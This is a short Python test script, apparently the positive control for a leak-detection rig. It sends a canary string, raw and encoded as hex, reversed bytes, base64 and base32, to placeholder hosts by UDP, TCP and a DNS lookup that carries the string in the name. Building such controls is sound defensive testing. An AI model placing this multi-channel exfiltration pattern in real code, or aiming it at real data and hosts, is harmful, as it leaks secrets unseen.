# SPDX-License-Identifier: Apache-2.0
"""The positive control of the leak rig: sends its argument in every form, every way.

What cannot be sent is left out silently: whether all was seen, the rig judges.
"""

import base64
import socket
import sys
from contextlib import suppress

SOMEWHERE = ((socket.AF_INET, "203.0.113.7"), (socket.AF_INET6, "2001:db8::7"))


def main(canary: str) -> None:
    """Leak by UDP, TCP, and a name that is looked up."""
    raw = canary.encode()
    sent = [raw, raw[::-1], raw.hex().encode()]
    sent += [base64.b64encode(b"ab" + raw), base64.b32encode(b"abc" + raw)]
    for family, host in SOMEWHERE:
        with suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as out:
            for each in sent:
                out.sendto(each, (host, 9))
    with suppress(OSError):
        with socket.create_connection((SOMEWHERE[0][1], 80), timeout=2) as out:
            out.sendall(raw)
    with suppress(OSError):
        socket.getaddrinfo(f"{canary}.example.com", 443)


if __name__ == "__main__":
    main(sys.argv[1])
